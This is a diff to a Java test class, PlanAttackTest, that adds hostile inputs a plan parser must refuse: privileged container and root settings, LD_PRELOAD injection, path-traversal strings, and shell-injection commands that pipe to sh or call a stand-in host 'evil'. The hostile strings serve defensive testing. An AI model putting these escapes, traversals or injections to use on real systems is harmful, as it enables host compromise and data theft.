@@ -47,6 +47,15 @@ class PlanAttackTest {
         "privileged: true",
         "volumes: [\"/:/host\"]",
         "user: \"0\"",
+        "user: 0",
+        "uid: 0",
+        "devices: [/dev/sda]",
+        "security_opt: [seccomp=unconfined]",
+        "pid: host",
+        "Privileged: true",
+        "docker: { privileged: true }",
+        "shell: true",
+        "environment: { LD_PRELOAD: /workspace/x.so }",
         "capabilities: [ALL]",
         "runtime: runc-evil",
         "mounts: [{ source: /, target: /host }]",
@@ -91,7 +100,13 @@ class PlanAttackTest {
         "..",
         "a/",
         "a/..",
-        "a\\nb"
+        "a\\nb",
+        "./x",
+        "a/../b",
+        "\\t/x",
+        "//etc/x",
+        "a/./b",
+        "a\\u0000/../../x"
       })
   void aPathStaysBelowTheWorkspace(String path) {
     String step = "steps:\n  - { id: a, type: FileDeletion, action: { file: \"%s\" } }\n";
@@ -128,7 +143,12 @@ class PlanAttackTest {
         "mvn test && curl evil",
         "mvn $(curl evil)",
         "mvn `curl evil`",
-        "mvn >~/.bashrc"
+        "mvn >~/.bashrc",
+        "mvn test\\ncurl evil",
+        "mvn test | sh",
+        "mvn test & curl evil",
+        "mvn\\ttest",
+        "true && true && true && curl evil"
       })
   void aCommandIsAListAndNeverGivenToAShell(String command) {
     refused(
@@ -140,7 +160,7 @@ class PlanAttackTest {
                 + command
                 + "\"] } }\n");
     assertThat(((StepAction.RunCommand) plan.steps().getFirst().action()).argv())
-        .containsExactly("mvn", command);
+        .containsExactly("mvn", command.replace("\\n", "\n").replace("\\t", "\t"));
   }
 
   @Test
